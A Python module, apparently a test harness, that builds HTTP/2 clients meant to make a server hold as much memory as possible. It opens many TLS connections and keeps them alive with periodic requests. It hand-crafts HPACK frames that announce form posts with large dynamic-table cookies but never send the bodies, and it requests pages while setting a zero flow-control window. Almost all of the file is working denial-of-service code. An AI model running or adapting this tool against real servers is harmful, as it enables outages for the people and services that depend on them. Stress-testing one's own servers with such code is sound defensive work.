"""HTTP/2 clients that make the machine hold as much memory as they can, and read no response.

First all clients open their connections. Since the host may be slow, they request a page now and
then to stay connected. Then all of them send requests that consume memory.
"""

import collections
import concurrent.futures
import contextlib
import struct
import time

import external_clients

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS = 1, 4
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# Streams below this one request pages while connections are opened.
FIRST_STREAM = 1001
# `:method: GET`, `:scheme: https`, `:path: /` and `:authority`.
PAGE = b"\x82\x87\x84\x01\x09localhost"
# The size in octets of one field that fills the dynamic table.
FIELD = 3_760
# The longest wait for a handshake, and the time after which a client requests a page, in seconds.
PATIENCE, RENEWED_AFTER = 20, 15
AT_ONCE = 16


def frame(kind, flags, stream, payload):
    """An HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(prefix_bits, number, first=0):
    """An integer of HPACK (RFC 7541 section 5.1)."""
    most = (1 << prefix_bits) - 1
    if number < most:
        return bytes([first | number])
    octets, number = [first | most], number - most
    while number >= 128:
        octets.append(number % 128 | 128)
        number //= 128
    return bytes([*octets, number])


def literal(index, value):
    """A field with a name of the static table, without indexing (RFC 7541 section 6.2.2)."""
    return integer(4, index) + integer(7, len(value)) + value


def added(index, value):
    """A field with a name of the static table, with indexing (RFC 7541 section 6.2.1)."""
    return integer(6, index, 0x40) + integer(7, len(value)) + value


NEWEST = b"\xbe"


def streams(kind, heads):
    return b"".join(frame(HEADERS, kind, FIRST_STREAM + 2 * number, head) for number, head in enumerate(heads))


def uploads(count=8):
    """Announces forms with large cookies from the dynamic table, and sends no form."""
    head = b"\x83\x87" + literal(4, b"/mail/login") + literal(1, b"localhost") + literal(28, b"10")
    head += literal(31, b"application/x-www-form-urlencoded")
    return streams(END_HEADERS, [head + added(32, b"c" * FIELD) + NEWEST] + [head + NEWEST + NEWEST] * (count - 1))


def pinned(count=100):
    """Fills the dynamic table twice, and requests pages with empty flow-control windows."""
    heads = [PAGE + b"\x40\x01" + name + integer(7, 3_900) + b"v" * 3_900 for name in (b"a", b"b")]
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    return window + streams(END_STREAM | END_HEADERS, heads + [PAGE] * (count - len(heads)))


class Hoard(contextlib.AbstractContextManager):
    """One connection from each of `sources`. Each has sent the requests `text`, and stays open."""

    def __init__(self, text, sources):
        self._context = external_clients.any_certificate("h2")
        self._connections = []
        self._renewals = collections.deque()
        self._refused = 0
        began = time.monotonic()
        with concurrent.futures.ThreadPoolExecutor(AT_ONCE) as pool:
            for connection in pool.map(self._open, sources):
                if connection:
                    self._connections.append(connection)
                    self._renewals.append((time.monotonic(), connection, 1))
                else:
                    self._refused += 1
                self._renew()
            opened = time.monotonic()
            self._said = sum(pool.map(lambda connection: self._say(connection, text), self._connections))
        self._seconds = opened - began, time.monotonic() - opened

    def _open(self, source):
        with contextlib.suppress(OSError):
            connection = external_clients.connect(443, source, PATIENCE, self._context)
            if self._say(connection, PREFACE + frame(SETTINGS, 0, 0, b"")):
                return connection
            connection.close()
        return None

    def _renew(self):
        """Requests a page on connections that were silent for a while."""
        while self._renewals and time.monotonic() - self._renewals[0][0] > RENEWED_AFTER:
            _, connection, stream = self._renewals.popleft()
            if stream < FIRST_STREAM:
                self._say(connection, frame(HEADERS, END_STREAM | END_HEADERS, stream, PAGE))
                self._renewals.append((time.monotonic(), connection, stream + 2))

    def _say(self, connection, text):
        """Sends bytes on a connection. Returns whether this succeeded."""
        try:
            connection.sendall(text)
        except OSError:
            return False
        return True

    def __str__(self):
        return (
            f"{len(self._connections)} connections in {self._seconds[0]:.1f} s, {self._refused} refused; "
            f"{self._said} were heard to the end in {self._seconds[1]:.1f} s"
        )

    def __exit__(self, *_):
        for connection in self._connections:
            connection.close()
